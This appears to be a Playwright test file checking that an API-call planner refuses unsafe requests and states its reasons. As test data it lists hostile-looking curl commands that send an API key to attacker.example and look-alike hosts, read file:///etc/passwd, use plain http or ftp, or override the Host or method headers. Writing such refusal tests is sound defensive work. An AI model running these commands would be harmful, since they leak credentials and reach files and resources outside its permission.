import { expect, test } from '@playwright/test';
import { callPage } from '../../support/call-pages.ts';
import { planPage, refusedIn } from '../../support/calls-page.ts';
import { at } from '../../support/page.ts';

// What would have to break: a request is planned that goes to another host than the API's, or changes what is not the run's.

const NOT_SENT: Record<string, [string, string]> = {
  'another host': [
    `curl https://attacker.example/v1/apiKeys -H 'apiKey: MY_KEY'`,
    "a request to attacker.example, which is not the API's",
  ],
  "a host below one that looks like the API's": [
    `curl https://api.spectrocloud.com.attacker.example/ -H 'apiKey: MY_KEY'`,
    "a request to api.spectrocloud.com.attacker.example, which is not the API's",
  ],
  "a host behind the API's name": [
    `curl https://api.spectrocloud.com@attacker.example/ -H 'apiKey: MY_KEY'`,
    "a request to api.spectrocloud.com@attacker.example, which is not the API's",
  ],
  'no https': [
    `curl http://api.spectrocloud.com/v1/apiKeys -H 'apiKey: MY_KEY'`,
    'an address without https, where a secret can be read on its way',
  ],
  'no scheme': [
    `curl api.spectrocloud.com/v1/apiKeys -H 'apiKey: MY_KEY'`,
    'an address without https, where a secret can be read on its way',
  ],
  'a file': [`curl file:///etc/passwd -H 'apiKey: MY_KEY'`, 'it reads a file'],
  'another protocol': [`curl ftp://api.spectrocloud.com/x -H 'apiKey: MY_KEY'`, 'an address of ftp:'],
  'another host in a header': [
    `curl https://api.spectrocloud.com/v1/apiKeys -H 'Host: b.example' -H 'apiKey: MY_KEY'`,
    'the header Host',
  ],
  'another method in a header': [
    `curl https://api.spectrocloud.com/v1/apiKeys -H 'X-HTTP-Method-Override: DELETE' -H 'apiKey: MY_KEY'`,
    'the header X-HTTP-Method-Override',
  ],
  'a change that touches no key of the run': [
    `curl -X POST https://api.spectrocloud.com/v1/apiKeys -H 'apiKey: MY_KEY' -d '{}'`,
    'it would change something that this run did not make',
  ],
  'a change of a key by its own uid': [
    `curl -X DELETE https://api.spectrocloud.com/v1/apiKeys/66e844c44bab2337f20c7471 -H 'apiKey: MY_KEY'`,
    'it would change something that this run did not make',
  ],
};

for (const [name, [list, reason]] of Object.entries(NOT_SENT)) {
  test(`sends nothing to ${name}, and says why`, () => {
    const planned = planPage(callPage({ list }));
    const { procedure, calls } = planned;
    expect(calls.ofStep.get(at(procedure.steps, 0))?.calls).toEqual([]);
    expect(refusedIn(planned, 0)).toEqual([reason, 'the answer to a command that is not sent']);
  });
}

test('gives no name that is not of the run, and puts in one that the page asks for', () => {
  const put = (body: string): string =>
    `curl -X PUT https://api.spectrocloud.com/v1/apiKeys/:uid -H 'ApiKey: MY_KEY' --json '${body}'`;
  const askDelete =
    "Replace `uid` with the API key's unique identifier and `THE_NAME` with the API key's name.";
  const reasons = (body: string) => refusedIn(planPage(callPage({ askDelete, delete: put(body) })), 1);
  expect(reasons('{"metadata": {"name": "mine"}, "a": "THE_NAME"}')).toEqual([
    'it would give a name that is not of this run',
  ]);
  expect(reasons('{"metadata": {"name": "THE_NAME"}}')).toEqual([]);
});
